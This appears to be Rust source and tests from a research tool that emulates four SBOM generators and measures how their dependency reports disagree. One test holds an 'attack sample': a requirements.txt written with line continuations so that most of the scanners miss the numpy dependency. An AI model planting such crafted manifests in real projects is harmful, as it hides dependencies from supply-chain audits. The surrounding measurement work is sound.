        (RustBinary, true, true, false, false),
    ]
};

#[cfg(test)]
mod tests {
    use super::*;

    /// The profiles must reproduce the paper's Table II cell-for-cell.
    #[test]
    fn matrices_match_table_ii() {
        let trivy = SupportMatrix::for_tool(ToolId::Trivy);
        let syft = SupportMatrix::for_tool(ToolId::Syft);
        let sbom_tool = SupportMatrix::for_tool(ToolId::SbomTool);
        let github = SupportMatrix::for_tool(ToolId::GithubDg);
        for (kind, t, s, m, g) in TABLE_II {
            assert_eq!(trivy.supports(kind), t, "Trivy vs Table II on {kind:?}");
            assert_eq!(syft.supports(kind), s, "Syft vs Table II on {kind:?}");
            assert_eq!(
                sbom_tool.supports(kind),
                m,
                "sbom-tool vs Table II on {kind:?}"
            );
            assert_eq!(
                github.supports(kind),
                g,
                "GitHub DG vs Table II on {kind:?}"
            );
        }
    }

    #[test]
    fn best_practice_supports_everything() {
        let bp = SupportMatrix::for_tool(ToolId::BestPractice);
        for kind in MetadataKind::ALL {
            assert!(bp.supports(kind));
        }
    }

    #[test]
    fn trivy_and_syft_claim_package_json_but_extract_nothing() {
        for tool in [ToolId::Trivy, ToolId::Syft] {
            let m = SupportMatrix::for_tool(tool);
            assert!(m.claims(MetadataKind::PackageJson), "{tool}");
            assert!(!m.supports(MetadataKind::PackageJson), "{tool}");
            assert_eq!(m.claimed_only().count(), 1);
        }
        let github = SupportMatrix::for_tool(ToolId::GithubDg);
        assert!(github.claims(MetadataKind::PackageJson));
        assert!(github.supports(MetadataKind::PackageJson));
    }

    #[test]
    fn github_has_best_raw_metadata_support() {
        use MetadataKind::*;
        let github = SupportMatrix::for_tool(ToolId::GithubDg);
        // §V-A: "The GitHub Dependency Graph has the best support for raw
        // metadata such as Gemfile and Cargo.toml".
        for raw in [Gemfile, CargoToml, PackageJson, ComposerJson, SetupPy] {
            assert!(github.supports(raw), "{raw:?}");
            for tool in [ToolId::Trivy, ToolId::Syft, ToolId::SbomTool] {
                assert!(
                    !SupportMatrix::for_tool(tool).supports(raw),
                    "{tool} {raw:?}"
                );
            }
        }
    }
}

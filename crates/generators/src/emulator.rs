//! The generic tool emulator: walks a repository, parses each supported
//! metadata file with the profile's dialect, and applies the profile's
//! version, scope, naming and resolution policies.
//!
//! Faithful to §V-G, each metadata file is analyzed independently and
//! results are never merged — which is exactly what produces the duplicate
//! entries of Table I.

use sbomdiff_faultline as fault;
use sbomdiff_metadata::{
    dotnet, golang, java, javascript, php, python, ruby, rust_lang, swift, MetadataKind, Parsed,
    RepoFs,
};
use sbomdiff_registry::{FlakyRegistry, Registries};
use sbomdiff_types::{
    Component, DeclaredDependency, DepScope, DiagClass, Diagnostic, Ecosystem, Purl, Sbom, Symbol,
    Version,
};

use crate::profile::{GoVersionStyle, JavaNaming, SubspecNaming, ToolProfile, VersionPolicy};
use crate::{SbomGenerator, ToolId};

/// Emulates one studied tool.
///
/// # Examples
///
/// ```
/// use sbomdiff_generators::{SbomGenerator, ToolEmulator};
/// use sbomdiff_metadata::RepoFs;
///
/// let mut repo = RepoFs::new("demo");
/// repo.add_text("requirements.txt", "numpy==1.19.2\nflask>=2.0\n");
/// // Trivy silently drops the unpinned flask (§V-D).
/// let sbom = ToolEmulator::trivy().generate(&repo);
/// assert_eq!(sbom.len(), 1);
/// assert_eq!(sbom.components()[0].name, "numpy");
/// ```
pub struct ToolEmulator<'r> {
    profile: ToolProfile,
    registry: Option<RegistryHandle<'r>>,
}

struct RegistryHandle<'r> {
    registries: &'r Registries,
    failure_rate: f64,
}

impl<'r> ToolEmulator<'r> {
    /// Trivy 0.43.0 emulator (offline).
    pub fn trivy() -> Self {
        ToolEmulator {
            profile: ToolProfile::trivy(),
            registry: None,
        }
    }

    /// Syft 0.84.1 emulator (offline).
    pub fn syft() -> Self {
        ToolEmulator {
            profile: ToolProfile::syft(),
            registry: None,
        }
    }

    /// Microsoft SBOM Tool 1.1.6 emulator. Contacts `registries` to
    /// validate names, pin latest-in-range versions and resolve transitive
    /// dependencies; `failure_rate` models the unreliable resolution §V-C
    /// describes (0.0 = perfectly reliable, for ablations).
    pub fn sbom_tool(registries: &'r Registries, failure_rate: f64) -> Self {
        ToolEmulator {
            profile: ToolProfile::sbom_tool(),
            registry: Some(RegistryHandle {
                registries,
                failure_rate,
            }),
        }
    }

    /// GitHub Dependency Graph emulator (offline).
    pub fn github_dg() -> Self {
        ToolEmulator {
            profile: ToolProfile::github_dg(),
            registry: None,
        }
    }

    /// Builds an emulator with a custom profile (ablation support). The
    /// registry is required when the profile resolves versions or
    /// transitives; `failure_rate` applies to its queries.
    pub fn with_profile(
        profile: ToolProfile,
        registries: Option<&'r Registries>,
        failure_rate: f64,
    ) -> Self {
        ToolEmulator {
            profile,
            registry: registries.map(|registries| RegistryHandle {
                registries,
                failure_rate,
            }),
        }
    }

    /// The profile in effect.
    pub fn profile(&self) -> &ToolProfile {
        &self.profile
    }

    fn client_for(&self, eco: Ecosystem, repo: &RepoFs) -> Option<FlakyRegistry<'_>> {
        self.registry.as_ref().map(|h| {
            let seed = fnv(repo.name()) ^ fnv(self.profile.id.label());
            FlakyRegistry::new(h.registries.for_ecosystem(eco), h.failure_rate, seed)
        })
    }
}

fn fnv(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h = (h ^ b as u64).wrapping_mul(0x100_0000_01b3);
    }
    h
}

impl SbomGenerator for ToolEmulator<'_> {
    fn id(&self) -> ToolId {
        self.profile.id
    }

    fn generate(&self, repo: &RepoFs) -> Sbom {
        self.scan_isolated(repo)
    }
}

impl ToolEmulator<'_> {
    /// Scans `repo` reusing (and populating) a shared metadata-parse
    /// cache — the differential pipeline scans every repository with four
    /// tools, and the cache makes each manifest parse happen once per
    /// dialect instead of once per tool. Byte-identical to
    /// [`generate`](SbomGenerator::generate).
    pub fn generate_with_cache(&self, repo: &RepoFs, cache: &crate::ParseCache) -> Sbom {
        self.generate_with_scan(&crate::ScanContext::new(repo, cache))
    }

    /// Derives this profile's SBOM from a shared scan: the file walk and
    /// every parse are shared with the other profiles scanning through the
    /// same [`crate::ScanContext`]; only this profile's quirks (support
    /// matrix, dialect selection, version/naming policies) are applied on
    /// top, as transforms. Byte-identical to
    /// [`scan_isolated`](ToolEmulator::scan_isolated).
    pub fn generate_with_scan(&self, scan: &crate::ScanContext<'_>) -> Sbom {
        self.generate_from(scan.repo(), scan.files(), &|path, kind| {
            scan.parsed(path, kind, self.profile.req_style)
        })
    }

    /// The pre-sharing reference path: walks and parses everything itself,
    /// sharing nothing. This is the oracle the shared-scan property tests
    /// compare [`generate_with_scan`](ToolEmulator::generate_with_scan)
    /// against, and what [`generate`](SbomGenerator::generate) runs.
    pub fn scan_isolated(&self, repo: &RepoFs) -> Sbom {
        self.generate_from(repo, &repo.metadata_files(), &|path, kind| {
            std::sync::Arc::new(parse_with_style(repo, path, kind, self.profile.req_style))
        })
    }

    /// The profile scan over an already-walked file list, with parsing
    /// delegated to `parse` (shared or isolated).
    fn generate_from(
        &self,
        repo: &RepoFs,
        files: &[(&str, MetadataKind)],
        parse: &dyn Fn(&str, MetadataKind) -> std::sync::Arc<Parsed>,
    ) -> Sbom {
        let mut sbom =
            Sbom::new(self.profile.id.label(), self.profile.id.version()).with_subject(repo.name());
        for &(path, kind) in files {
            if !self.profile.support.supports(kind) {
                continue;
            }
            if kind == MetadataKind::RequirementsTxt
                && self.profile.requirements_exact_name_only
                && path.rsplit('/').next() != Some("requirements.txt")
            {
                continue;
            }
            if kind == MetadataKind::GoMod && self.profile.prefer_gosum_over_gomod {
                let sibling = match path.rsplit_once('/') {
                    Some((dir, _)) => format!("{dir}/go.sum"),
                    None => "go.sum".to_string(),
                };
                if repo.bytes(&sibling).is_some() {
                    continue; // go.sum carries the richer module list
                }
            }
            let deps = parse(path, kind);
            sbom.extend_shared_diagnostics(deps.diags.iter().cloned());
            let eco = kind.ecosystem();
            // One pool round trip per file, not per component.
            let path_sym: Symbol = path.into();
            let client = self.client_for(eco, repo);
            let mut emitted: Vec<(String, Version)> = Vec::new();
            for dep in deps.iter() {
                if !dep.source.is_registry() {
                    // Table IV: exotic sources yield nothing.
                    sbom.push_diagnostic(
                        Diagnostic::new(
                            DiagClass::ExoticSource,
                            format!("URL/path/VCS dependency {} yields no entry", dep.name.raw()),
                        )
                        .with_path(path)
                        .with_ecosystem(eco),
                    );
                    continue;
                }
                if dep.scope == DepScope::Dev && !self.profile.include_dev {
                    continue; // configured policy (§V-F), not data loss
                }
                let Some(component) = self.render(dep, kind, &path_sym, client.as_ref()) else {
                    let diag = match self.profile.version_policy {
                        VersionPolicy::ResolveLatest => Diagnostic::new(
                            DiagClass::RegistryFailure,
                            format!(
                                "registry validation/resolution for {} failed; entry dropped",
                                dep.name.raw()
                            ),
                        ),
                        _ => Diagnostic::new(
                            DiagClass::UnpinnedDropped,
                            format!("unpinned declaration {} silently dropped", dep.name.raw()),
                        ),
                    };
                    sbom.push_diagnostic(diag.with_path(path).with_ecosystem(eco));
                    continue;
                };
                // Track concrete versions for transitive expansion.
                if self.profile.resolve_transitive && !kind.is_lockfile() {
                    if let Some(v) = component
                        .version
                        .as_deref()
                        .and_then(|v| Version::parse(v).ok())
                    {
                        emitted.push((dep.name.raw().to_string(), v));
                    }
                }
                sbom.push(component);
            }
            if self.profile.resolve_transitive && !kind.is_lockfile() {
                if let Some(client) = &client {
                    self.expand_transitives(&mut sbom, emitted, eco, &path_sym, client);
                }
            }
        }
        if self.profile.merge_duplicates {
            sbom = merge(sbom);
        }
        sbom
    }
}

impl ToolEmulator<'_> {
    /// Applies version policy and naming conventions; `None` drops the
    /// entry (§V-D silent discards).
    fn render(
        &self,
        dep: &DeclaredDependency,
        kind: MetadataKind,
        path: &Symbol,
        client: Option<&FlakyRegistry<'_>>,
    ) -> Option<Component> {
        let eco = kind.ecosystem();
        let pinned = dep.pinned_version().cloned();
        let lockfile_like =
            kind.is_lockfile() || matches!(kind, MetadataKind::GoBinary | MetadataKind::RustBinary);
        let mut canonicalized = false;
        let version: Option<String> = if lockfile_like {
            // Lockfile entries are trusted as-is, no registry round trips.
            match &pinned {
                Some(v) => Some(self.render_version(eco, v)),
                None if dep.req_text.is_empty() => None,
                None => Some(dep.req_text.clone()),
            }
        } else {
            match self.profile.version_policy {
                VersionPolicy::DropUnpinned => Some(self.render_version(eco, &pinned?)),
                VersionPolicy::Verbatim => match &pinned {
                    Some(v) if is_tight_pin(&dep.req_text) => Some(self.render_version(eco, v)),
                    _ if !dep.req_text.is_empty() => Some(dep.req_text.clone()),
                    _ => None,
                },
                VersionPolicy::ResolveLatest => {
                    let client = client?;
                    // Name validation against the registry (§VIII); any
                    // failure silently drops the entry.
                    let resolved: &Version = match (&pinned, &dep.req) {
                        (Some(v), _) => {
                            client.validate(dep.name.raw())?;
                            v
                        }
                        (None, Some(req)) => client.latest_matching_ref(dep.name.raw(), req)?,
                        (None, None) => client.latest_ref(dep.name.raw())?,
                    };
                    canonicalized = true;
                    Some(self.render_version(eco, resolved))
                }
            }
        };
        // A registry round trip returns the canonical package name, so
        // the declared spelling is replaced by it (sbom-tool behavior).
        let canonical;
        let raw_name = if canonicalized {
            canonical = sbomdiff_types::name::normalized(eco, dep.name.raw());
            canonical.as_ref()
        } else {
            dep.name.raw()
        };
        let name: Symbol = self.render_name(eco, raw_name).as_ref().into();
        let version: Option<Symbol> = version.map(Symbol::from);
        let purl = Purl::for_component(eco, &name, version.as_ref());
        Some(
            Component::interned(eco, name, version)
                .with_found_in(path.clone())
                .with_purl(purl),
        )
    }

    fn render_version(&self, eco: Ecosystem, v: &Version) -> String {
        if eco == Ecosystem::Go {
            match self.profile.go_version {
                GoVersionStyle::KeepV => v.to_v_prefixed(),
                GoVersionStyle::StripV => v.to_unprefixed(),
            }
        } else {
            v.to_string()
        }
    }

    /// Borrows from `raw` whenever the profile's convention keeps the
    /// spelling (the common case — only Java dot-joining reallocates).
    fn render_name<'n>(&self, eco: Ecosystem, raw: &'n str) -> std::borrow::Cow<'n, str> {
        use std::borrow::Cow;
        match eco {
            Ecosystem::Java => match raw.split_once(':') {
                Some((group, artifact)) => match self.profile.java_naming {
                    JavaNaming::ArtifactOnly => Cow::Borrowed(artifact),
                    JavaNaming::GroupColonArtifact => Cow::Borrowed(raw),
                    JavaNaming::GroupDotArtifact => Cow::Owned(format!("{group}.{artifact}")),
                },
                None => Cow::Borrowed(raw),
            },
            Ecosystem::Swift => match self.profile.subspec {
                SubspecNaming::Subspec => Cow::Borrowed(raw),
                SubspecNaming::MainPod => Cow::Borrowed(raw.split('/').next().unwrap_or(raw)),
            },
            _ => Cow::Borrowed(raw),
        }
    }

    /// Expands transitive dependencies of the concrete packages emitted
    /// from one raw metadata file (sbom-tool only, §V-C). Markers are NOT
    /// honored (§V-H), and every registry query may fail.
    fn expand_transitives(
        &self,
        sbom: &mut Sbom,
        roots: Vec<(String, Version)>,
        eco: Ecosystem,
        path: &Symbol,
        client: &FlakyRegistry<'_>,
    ) {
        // Deduplicated by package name, as NuGet/pip-style resolvers do —
        // one resolved version per package within a file's resolution.
        let mut visited: std::collections::BTreeSet<String> =
            roots.iter().map(|(n, _)| n.clone()).collect();
        let mut queue: std::collections::VecDeque<(String, Version)> = roots.into();
        let mut guard = 0;
        while let Some((name, version)) = queue.pop_front() {
            guard += 1;
            if guard > 10_000 {
                break;
            }
            let Some(edges) = client.deps_of_ref(&name, &version, &[], false) else {
                // "often fails to retrieve" — §V-C
                sbom.push_diagnostic(
                    Diagnostic::new(
                        DiagClass::RegistryFailure,
                        format!("transitive dependency query for {name}@{version} failed"),
                    )
                    .with_path(path)
                    .with_ecosystem(eco),
                );
                continue;
            };
            for edge in edges {
                // NB: the query must stay ahead of the visited check — the
                // flaky registry's failure sequence is a function of query
                // order, and real resolvers re-query duplicate edges too.
                let Some(resolved) = client.latest_matching_ref(&edge.name, &edge.req) else {
                    sbom.push_diagnostic(
                        Diagnostic::new(
                            DiagClass::RegistryFailure,
                            format!("transitive resolution for {} failed", edge.name),
                        )
                        .with_path(path)
                        .with_ecosystem(eco),
                    );
                    continue;
                };
                if !visited.insert(edge.name.clone()) {
                    continue;
                }
                let canonical = sbomdiff_types::name::normalized(eco, &edge.name);
                let rendered: Symbol = self.render_name(eco, canonical.as_ref()).as_ref().into();
                let version_sym: Symbol = self.render_version(eco, resolved).into();
                let purl = Purl::for_component(eco, &rendered, Some(&version_sym));
                sbom.push(
                    Component::interned(eco, rendered, Some(version_sym))
                        .with_found_in(path)
                        .with_purl(purl),
                );
                queue.push_back((edge.name.clone(), resolved.clone()));
            }
        }
    }
}

/// Whether a requirement text is a tight pin GitHub DG normalizes to a bare
/// version (`==1.2.3` with no spaces, or an exact version literal).
fn is_tight_pin(req_text: &str) -> bool {
    if let Some(v) = req_text.strip_prefix("==") {
        return !v.is_empty() && !v.contains(char::is_whitespace) && !v.contains('*');
    }
    // Exact literal pins (package.json "1.2.3", Maven soft pins).
    !req_text.is_empty()
        && req_text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+'))
        && req_text.starts_with(|c: char| c.is_ascii_digit() || c == 'v')
}

/// Merges duplicate (name, version) entries (best practice §VII; kept here
/// so ablations can grant it to any profile).
fn merge(sbom: Sbom) -> Sbom {
    let mut out = Sbom::new(sbom.meta.tool_name.clone(), sbom.meta.tool_version.clone())
        .with_subject(sbom.meta.subject.clone());
    out.extend_shared_diagnostics(sbom.diagnostics().iter().cloned());
    let mut seen = std::collections::BTreeSet::new();
    for c in sbom.components() {
        let key = (c.name.clone(), c.version.clone());
        if seen.insert(key) {
            out.push(c.clone());
        }
    }
    out
}

/// Dispatches to the right parser for a file, honoring the requirements
/// dialect (the only profile-dependent parser input — which is what makes
/// the [`crate::ParseCache`] keying sound).
pub(crate) fn parse_with_style(
    repo: &RepoFs,
    path: &str,
    kind: MetadataKind,
    style: python::ReqStyle,
) -> Parsed {
    let is_binary = matches!(kind, MetadataKind::GoBinary | MetadataKind::RustBinary);
    // Fault point: an injected error fails the whole file read (IoError);
    // injected corruption truncates the text mid-file so the parser sees a
    // damaged-but-parseable document, flagged with a TruncatedInput
    // diagnostic. Binary formats have no safe partial read, so corruption
    // degrades to the error path there.
    let injected = fault::point!(fault::sites::PARSE_FILE, path);
    let corrupted = injected == Some(fault::Surfaced::Corrupt) && !is_binary;
    if let Some(surfaced) = injected {
        if !corrupted {
            return Parsed::fail(Diagnostic::new(
                DiagClass::IoError,
                surfaced.message(fault::sites::PARSE_FILE),
            ))
            .with_path(path)
            .with_ecosystem(kind.ecosystem());
        }
    }
    if !is_binary && repo.text(path).is_none() && repo.bytes(path).is_some() {
        // The file exists but is not valid UTF-8 — every text parser would
        // otherwise see an empty document and silently succeed.
        return Parsed::fail(Diagnostic::new(
            DiagClass::EncodingError,
            "metadata file is not valid UTF-8",
        ))
        .with_path(path)
        .with_ecosystem(kind.ecosystem());
    }
    let text = || {
        let t = repo.text(path).unwrap_or_default();
        if corrupted {
            truncate_for_fault(t)
        } else {
            t
        }
    };
    let parsed = match kind {
        MetadataKind::RequirementsTxt => python::parse_requirements(text(), style),
        MetadataKind::PoetryLock => python::parse_poetry_lock(text()),
        MetadataKind::PipfileLock => python::parse_pipfile_lock(text()),
        MetadataKind::SetupPy => python::parse_setup_py(text()),
        MetadataKind::PyprojectToml => python::parse_pyproject_toml(text()),
        MetadataKind::SetupCfg => python::parse_setup_cfg(text()),
        MetadataKind::PackageJson => javascript::parse_package_json(text()),
        MetadataKind::PackageLockJson => javascript::parse_package_lock(text()),
        MetadataKind::YarnLock => javascript::parse_yarn_lock(text()),
        MetadataKind::PnpmLock => javascript::parse_pnpm_lock(text()),
        MetadataKind::Gemfile => ruby::parse_gemfile(text()),
        MetadataKind::GemfileLock => ruby::parse_gemfile_lock(text()),
        MetadataKind::Gemspec => ruby::parse_gemspec(text()),
        MetadataKind::ComposerJson => php::parse_composer_json(text()),
        MetadataKind::ComposerLock => php::parse_composer_lock(text()),
        MetadataKind::PomXml => java::parse_pom_xml(text()),
        MetadataKind::GradleLockfile => java::parse_gradle_lockfile(text()),
        MetadataKind::ManifestMf => java::parse_manifest_mf(text()),
        MetadataKind::PomProperties => java::parse_pom_properties(text()),
        MetadataKind::GoMod => golang::parse_go_mod(text()),
        MetadataKind::GoSum => golang::parse_go_sum(text()),
        MetadataKind::GoBinary => golang::parse_go_binary(repo.bytes(path).unwrap_or_default()),
        MetadataKind::CargoToml => rust_lang::parse_cargo_toml(text()),
        MetadataKind::CargoLock => rust_lang::parse_cargo_lock(text()),
        MetadataKind::RustBinary => {
            rust_lang::parse_rust_binary(repo.bytes(path).unwrap_or_default())
        }
        MetadataKind::PackageSwift => swift::parse_package_swift(text()),
        MetadataKind::PackageResolved => swift::parse_package_resolved(text()),
        MetadataKind::Podfile => swift::parse_podfile(text()),
        MetadataKind::PodfileLock => swift::parse_podfile_lock(text()),
        MetadataKind::Csproj => dotnet::parse_csproj(text()),
        MetadataKind::PackagesConfig => dotnet::parse_packages_config(text()),
        MetadataKind::PackagesLockJson => dotnet::parse_packages_lock_json(text()),
    };
    let mut parsed = parsed.with_path(path).with_ecosystem(kind.ecosystem());
    if corrupted {
        parsed.push_diag(
            Diagnostic::new(
                DiagClass::TruncatedInput,
                fault::Surfaced::Corrupt.message(fault::sites::PARSE_FILE),
            )
            .with_path(path)
            .with_ecosystem(kind.ecosystem()),
        );
    }
    parsed
}

/// Cuts a document roughly in half on a char boundary, modeling a
/// truncated read under injected corruption.
fn truncate_for_fault(text: &str) -> &str {
    let mut cut = text.len() / 2;
    while cut > 0 && !text.is_char_boundary(cut) {
        cut -= 1;
    }
    &text[..cut]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn regs() -> Registries {
        Registries::generate(99)
    }

    fn python_repo() -> RepoFs {
        let mut repo = RepoFs::new("py-demo");
        repo.add_text(
            "requirements.txt",
            "numpy==1.19.2\nrequests>=2.8.1\nflask\n",
        );
        repo
    }

    #[test]
    fn trivy_reports_only_pinned() {
        let repo = python_repo();
        let sbom = ToolEmulator::trivy().generate(&repo);
        assert_eq!(sbom.len(), 1);
        assert_eq!(sbom.components()[0].name, "numpy");
        assert_eq!(sbom.components()[0].version.as_deref(), Some("1.19.2"));
    }

    #[test]
    fn github_reports_ranges_verbatim() {
        let repo = python_repo();
        let sbom = ToolEmulator::github_dg().generate(&repo);
        assert_eq!(sbom.len(), 3);
        let requests = sbom
            .components()
            .iter()
            .find(|c| c.name == "requests")
            .unwrap();
        assert_eq!(requests.version.as_deref(), Some(">=2.8.1"));
        let flask = sbom
            .components()
            .iter()
            .find(|c| c.name == "flask")
            .unwrap();
        assert_eq!(flask.version, None);
    }

    #[test]
    fn sbom_tool_pins_latest_and_expands_transitives() {
        let regs = regs();
        let repo = python_repo();
        let sbom = ToolEmulator::sbom_tool(&regs, 0.0).generate(&repo);
        let requests = sbom
            .components()
            .iter()
            .find(|c| c.name == "requests")
            .unwrap();
        // Latest in range >=2.8.1 is the curated 2.31.0.
        assert_eq!(requests.version.as_deref(), Some("2.31.0"));
        // Transitives of requests pulled from the registry.
        assert!(sbom.components().iter().any(|c| c.name == "urllib3"));
        // flask resolves to the curated latest and expands.
        assert!(sbom.components().iter().any(|c| c.name == "werkzeug"));
    }

    #[test]
    fn sbom_tool_flakiness_loses_packages() {
        let regs = regs();
        let repo = python_repo();
        let reliable = ToolEmulator::sbom_tool(&regs, 0.0).generate(&repo);
        let flaky = ToolEmulator::sbom_tool(&regs, 0.95).generate(&repo);
        assert!(flaky.len() < reliable.len());
    }

    #[test]
    fn table_iv_numpy_continuation_row() {
        // The attack sample: sbom-tool reports numpy pinned to the
        // registry's latest (1.25.2); the other three report nothing.
        let regs = regs();
        let mut repo = RepoFs::new("attack");
        repo.add_text("requirements.txt", "numpy \\\n==\\\n1.19.2\n");
        let trivy = ToolEmulator::trivy().generate(&repo);
        let syft = ToolEmulator::syft().generate(&repo);
        let github = ToolEmulator::github_dg().generate(&repo);
        let sbom_tool = ToolEmulator::sbom_tool(&regs, 0.0).generate(&repo);
        assert!(trivy.is_empty());
        assert!(syft.is_empty());
        assert!(github.is_empty());
        assert_eq!(sbom_tool.len(), 1);
        assert_eq!(sbom_tool.components()[0].name, "numpy");
        assert_eq!(sbom_tool.components()[0].version.as_deref(), Some("1.25.2"));
    }

    #[test]
    fn dev_dependency_policies() {
        let mut repo = RepoFs::new("js-demo");
        repo.add_text(
            "package-lock.json",
            r#"{"lockfileVersion": 3, "packages": {
                "node_modules/lodash": {"version": "4.17.21"},
                "node_modules/jest": {"version": "29.6.2", "dev": true}
            }}"#,
        );
        let trivy = ToolEmulator::trivy().generate(&repo);
        assert_eq!(trivy.len(), 1); // prod only (§V-F)
        let syft = ToolEmulator::syft().generate(&repo);
        assert_eq!(syft.len(), 2); // dev included
    }

    #[test]
    fn java_naming_conventions_diverge() {
        let mut repo = RepoFs::new("java-demo");
        repo.add_text(
            "gradle.lockfile",
            "com.google.guava:guava:32.1.2=runtimeClasspath\n",
        );
        let regs = regs();
        let trivy = ToolEmulator::trivy().generate(&repo);
        let syft = ToolEmulator::syft().generate(&repo);
        let sbom_tool = ToolEmulator::sbom_tool(&regs, 0.0).generate(&repo);
        assert_eq!(trivy.components()[0].name, "com.google.guava:guava");
        assert_eq!(syft.components()[0].name, "guava");
        assert_eq!(sbom_tool.components()[0].name, "com.google.guava.guava");
    }

    #[test]
    fn go_v_prefix_conventions_diverge() {
        let mut repo = RepoFs::new("go-demo");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        let trivy = ToolEmulator::trivy().generate(&repo);
        let syft = ToolEmulator::syft().generate(&repo);
        assert_eq!(trivy.components()[0].version.as_deref(), Some("0.9.1"));
        assert_eq!(syft.components()[0].version.as_deref(), Some("v0.9.1"));
    }

    #[test]
    fn subspec_naming_diverges() {
        let mut repo = RepoFs::new("swift-demo");
        repo.add_text(
            "Podfile.lock",
            "PODS:\n  - Firebase/Auth (10.12.0)\n\nDEPENDENCIES:\n  - Firebase/Auth (~> 10.0)\n",
        );
        let regs = regs();
        let trivy = ToolEmulator::trivy().generate(&repo);
        let sbom_tool = ToolEmulator::sbom_tool(&regs, 0.0).generate(&repo);
        assert_eq!(trivy.components()[0].name, "Firebase/Auth");
        assert_eq!(sbom_tool.components()[0].name, "Firebase");
    }

    #[test]
    fn unsupported_files_are_ignored() {
        let mut repo = RepoFs::new("rust-demo");
        repo.add_text("Cargo.toml", "[dependencies]\nserde = \"1.0\"\n");
        // Trivy does not support Cargo.toml (Table II).
        assert!(ToolEmulator::trivy().generate(&repo).is_empty());
        // GitHub DG does, reporting the range verbatim.
        let github = ToolEmulator::github_dg().generate(&repo);
        assert_eq!(github.len(), 1);
        assert_eq!(github.components()[0].version.as_deref(), Some("1.0"));
    }

    #[test]
    fn no_merging_across_files() {
        let mut repo = RepoFs::new("multi");
        repo.add_text("requirements.txt", "numpy==1.19.2\n");
        repo.add_text("sub/requirements.txt", "numpy==1.19.2\n");
        let sbom = ToolEmulator::trivy().generate(&repo);
        assert_eq!(sbom.len(), 2); // §V-G: duplicates are not merged
        assert_eq!(sbom.duplicate_entries(), 1);
    }

    #[test]
    fn trivy_prefers_gosum_over_gomod() {
        let mut repo = RepoFs::new("go-pref");
        repo.add_text("go.mod", "module m\nrequire github.com/pkg/errors v0.9.1\n");
        repo.add_text(
            "go.sum",
            "github.com/pkg/errors v0.9.1 h1:x=\ngolang.org/x/sync v0.3.0 h1:y=\n",
        );
        let trivy = ToolEmulator::trivy().generate(&repo);
        // go.sum only: two modules, no double-report of errors from go.mod.
        assert_eq!(trivy.len(), 2);
        assert_eq!(trivy.duplicate_entries(), 0);
        // Syft has no go.sum support and reads go.mod.
        let syft = ToolEmulator::syft().generate(&repo);
        assert_eq!(syft.len(), 1);
    }

    #[test]
    fn binary_scanning_trivy_syft_only() {
        let mut repo = RepoFs::new("bin");
        repo.add_bytes(
            "app.gobin",
            golang::render_go_binary(&[("github.com/a/b", "v1.0.0")]),
        );
        assert_eq!(ToolEmulator::trivy().generate(&repo).len(), 1);
        assert_eq!(ToolEmulator::syft().generate(&repo).len(), 1);
        assert!(ToolEmulator::github_dg().generate(&repo).is_empty());
    }
}

#[cfg(test)]
mod marker_blindness_tests {
    use super::*;
    use sbomdiff_registry::{PackageEntry, PackageUniverse, RegistryDep, VersionEntry};
    use sbomdiff_types::{ConstraintFlavor, VersionReq};

    /// §V-H: sbom-tool ignores OS/Python requirements during transitive
    /// resolution, pulling in platform-excluded dependencies that pip would
    /// never install.
    #[test]
    fn sbom_tool_follows_platform_excluded_edges() {
        let mut uni = PackageUniverse::new(Ecosystem::Python);
        uni.insert(PackageEntry {
            name: "winonly".into(),
            versions: vec![VersionEntry {
                version: Version::new(1, 0, 0),
                deps: vec![],
                yanked: false,
            }],
        });
        uni.insert(PackageEntry {
            name: "rootpkg".into(),
            versions: vec![VersionEntry {
                version: Version::new(2, 0, 0),
                deps: vec![RegistryDep {
                    name: "winonly".into(),
                    req: VersionReq::parse(">=1.0", ConstraintFlavor::Pep440).unwrap(),
                    extra: None,
                    platform_excluded: true,
                }],
                yanked: false,
            }],
        });
        let regs = Registries::from_parts(vec![uni]);
        let mut repo = RepoFs::new("marker-blind");
        repo.add_text("requirements.txt", "rootpkg==2.0.0\n");

        let sbom = ToolEmulator::sbom_tool(&regs, 0.0).generate(&repo);
        assert!(
            sbom.components().iter().any(|c| c.name == "winonly"),
            "sbom-tool must pull the marker-excluded edge (it ignores markers)"
        );
        // The best-practice generator honors markers — no winonly.
        let bp = crate::BestPracticeGenerator::new(&regs).generate(&repo);
        assert!(
            !bp.components().iter().any(|c| c.name == "winonly"),
            "best practice must honor markers"
        );
    }

    /// Ecosystem walk coverage: PHP, .NET and SwiftPM repositories flow
    /// through the right parsers and matrices.
    #[test]
    fn walks_php_dotnet_swiftpm() {
        let regs = Registries::generate(12);
        let mut repo = RepoFs::new("multi-eco");
        repo.add_text(
            "composer.lock",
            r#"{"packages": [{"name": "monolog/monolog", "version": "3.4.0"}], "packages-dev": [{"name": "phpunit/phpunit", "version": "10.2.1"}]}"#,
        );
        repo.add_text(
            "App/App.csproj",
            r#"<Project><ItemGroup><PackageReference Include="Newtonsoft.Json" Version="13.0.3" /></ItemGroup></Project>"#,
        );
        repo.add_text(
            "Package.swift",
            "let package = Package(dependencies: [ .package(url: \"https://github.com/s/SnapKit.git\", exact: \"5.6.0\") ])",
        );
        // Trivy: composer.lock only (prod only), no csproj, no Package.swift.
        let trivy = ToolEmulator::trivy().generate(&repo);
        let trivy_names: Vec<&str> = trivy.components().iter().map(|c| c.name.as_str()).collect();
        assert_eq!(trivy_names, vec!["monolog/monolog"]);
        // GitHub DG: composer.lock (dev incl) + csproj + Package.swift.
        let github = ToolEmulator::github_dg().generate(&repo);
        assert_eq!(github.len(), 4, "{:?}", github.components());
        // sbom-tool: csproj with NuGet transitive expansion, no composer.
        let sbom_tool = ToolEmulator::sbom_tool(&regs, 0.0).generate(&repo);
        assert!(sbom_tool
            .components()
            .iter()
            .all(|c| c.ecosystem != Ecosystem::Php));
        // The registry round trip canonicalizes the NuGet id (case-
        // insensitive ecosystem → lowercase), another §V-E-style
        // inconsistency between tools.
        assert!(sbom_tool
            .components()
            .iter()
            .any(|c| c.name.eq_ignore_ascii_case("Newtonsoft.Json")));
    }
}

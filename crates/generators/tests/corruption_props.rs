//! Corruption-robustness properties for the emulator pipeline.
//!
//! §V-B documents real generators crashing or going silent on malformed
//! metadata. The emulators must do the opposite: any truncation or
//! bit-flip of a metadata file is scanned without panicking, and
//! corruption that makes a file unreadable surfaces as a classified
